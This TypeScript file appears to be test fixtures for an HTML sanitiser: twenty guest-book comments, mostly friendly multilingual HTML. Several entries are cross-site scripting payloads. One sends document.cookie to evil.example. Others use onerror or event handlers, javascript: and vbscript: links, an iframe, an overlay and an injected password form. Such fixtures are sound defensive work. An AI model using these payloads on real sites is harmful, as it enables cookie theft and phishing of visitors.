/** Twenty guest book entries as strangers send them: most are friendly, some are careless, a few are attacks. */

export interface Comment {
  id: number;
  author: string;
  html: string;
}

const entries: [author: string, html: string][] = [
  ['Noor', '<p>What a lovely page. I read it <em>twice</em>.</p>'],
  ['Piotr', '<p>Found you through <a href="https://example.com/links" title="A list of links">a list of links</a>.</p>'],
  ['Mei', '<p>Three things I liked:</p><ul><li>the type</li><li>the tone</li><li>the <strong>speed</strong></li></ul>'],
  ['Anonymous', '<p>Hi!<script>document.location="https://evil.example/?c="+document.cookie</script></p>'],
  ['Bruno', '<blockquote>Progress is when the fallback becomes the foundation.</blockquote><p>I have this on a wall now.</p>'],
  ['Amélie', '<p>Très joli — et très rapide&nbsp;! ☕</p>'],
  ['x', '<img src=x onerror="alert(1)"><p>nice photo</p>'],
  ['Dana & Kofi', '<p>Greetings from both of us &amp; the cat.</p><p><img src="https://example.com/cat.jpg" alt="The cat" width="320" height="240"></p>'],
  ['けんた', '<p>静かで、いいページですね。<br>また来ます。</p>'],
  ['Jens', '<pre><code>if (a &lt; b &amp;&amp; b &gt; c) {\n  return "fine";\n}</code></pre>'],
  ['click me', '<p><a href="javascript:alert(document.domain)">free stickers</a> <a href="https://example.com/stickers">no, really</a></p>'],
  ['Grace', '<h3>A small correction</h3><p>It is <s>Teusday</s> <u>Tuesday</u>.</p><ol><li>Open the file</li><li>Fix the word</li></ol>'],
  ['Olu', '<p>Unclosed <strong>bold <em>and italic text'],
  ['hover', '<p onmouseover="alert(2)">Come <em onfocus="alert(2)" tabindex="0">closer</em>.</p>'],
  ['Ana Sofía', '<p style="position:fixed;inset:0" class="overlay" onclick="alert(3)">¡Qué bonito! 💐</p>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe><p>Look at my site</p>'],
  ['Felix', '<figure><img src="/photos/pier.jpg" alt="A pier at dusk"><figcaption>Taken here last year.</figcaption></figure>'],
  ['data', '<p>See <a href="vbscript:msgbox(4)">this</a> and <a href="data:text/html,hello">that</a>.</p><!-- and nobody will know -->'],
  ['Yuki', '<p>Plain text with an ampersand & a less-than sign < in the middle.</p>'],
  ['Ms. Delgado', '<p>The pool on Calle Mayor opens at 8 now.</p><form action="/login"><input name="password"></form><p>Thank you for everything. ❤️</p>'],
];

export const comments: Comment[] = entries.map(([author, html], index) => ({ id: index + 1, author, html }));
